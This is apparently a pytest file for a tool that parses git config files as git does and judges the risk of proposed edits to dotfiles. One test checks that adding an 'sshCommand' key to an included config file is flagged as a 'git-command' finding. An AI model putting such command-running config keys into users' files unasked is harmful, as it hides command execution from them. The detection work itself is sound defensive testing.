# parse_gitconfig follows git's config.c: (text, [(name, value, line)])
PARSER: list[tuple[str, list[tuple[str, str | None, int]]]] = [
    ("[core]\n\tx = a\\\\\n\ty = b\n", [("core.x", "a\\", 2), ("core.y", "b", 3)]),
    ("[core]\n\t# c \\\n\ty = b\n", [("core.y", "b", 3)]),
    ("[core]\n\tx = a ; c \\\n\ty = b\n", [("core.x", "a", 2), ("core.y", "b", 3)]),
    ("[core]\n\tx = a \\\n\ty = b\n", [("core.x", "a \ty = b", 2)]),  # a real continuation
    ('[core]\n\tx = "a\\\\"\n\ty\n', [("core.x", "a\\", 2), ("core.y", None, 3)]),
    ('[core]\n\tx = "a \\\nb"\n', [("core.x", "a b", 2)]),  # continuation inside quotes
    ('[core]\n\tx = "a;#b" # c\n', [("core.x", "a;#b", 2)]),
    ("[core]\r\n\tx = a\\\r\n b\r\n", [("core.x", "a b", 2)]),
    ('[url "a\\"b"]\n\tinsteadOf = y\n', [('url.a"b.insteadof', "y", 2)]),
    ('[x "y"] k = v\n', [("x.y.k", "v", 1)]),
    ('[x "y" ]\n\tk = v\n', []),  # git refuses: nothing follows the closing quote but ]
    ("k = v\n[s]\n\tbad key = 1\n\tok = 2\n", [("s.ok", "2", 4)]),
    ("\ufeff[s]k=v\n", [("s.k", "v", 1)]),
    ("[s]\n\tx = a  \t\n", [("s.x", "a", 2)]),
    ("[s]\n\tx = \\t\\n\\b\n", [("s.x", "\t\n\b", 2)]),
]


@pytest.mark.parametrize(("text", "expected"), PARSER)
def test_gitconfig_parser_follows_git(
    text: str, expected: list[tuple[str, str | None, int]]
) -> None:
    assert [(e.name, e.value, e.line) for e in parse_gitconfig(text)] == expected


def test_tree_of_reads_only_config_files_and_their_includes() -> None:
    blobs = {
        ".gitconfig": b"[include]\n\tpath = notes/a\n",
        "notes/a": b"[include]\n\tpath = b\n",
        "notes/b": b"[core]\n\tpager = x\n",
        ".ssh/config": b"Include hosts\n",
        ".ssh/hosts": b"Host x\n",
        "notes/big": b"x" * 10,
    }
    read: list[str] = []

    def reader(path: str) -> bytes:
        read.append(path)
        return blobs[path]

    tree = tree_of(dict.fromkeys(blobs, F), {}, reader)
    assert sorted(read) == [".gitconfig", ".ssh/config", ".ssh/hosts", "notes/a", "notes/b"]
    found = assess([edit("notes/b", "[core]\n", "[core]\n\tsshCommand = x\n")], tree)
    assert [(f.rule, f.path) for f in found] == [("git-command", "notes/b")]


def test_every_unknown_file_in_a_config_place_makes_auto_apply_refuse() -> None:
    for path in (".config/x/y", ".foo", ".local/share/x", ".ssh/x", ".cache/x"):
        assert classify(path) == ["unclassified"], path
        assert has_high(assess([new(path, "k = v\n")])), path
    for path in ("notes/todo.txt", "Documents/a.txt", ".local/share/fonts/a"):
        assert classify(path) in ([], ["harmless"]), path
        assert not has_high(assess([new(path, "k = v\n")])), path
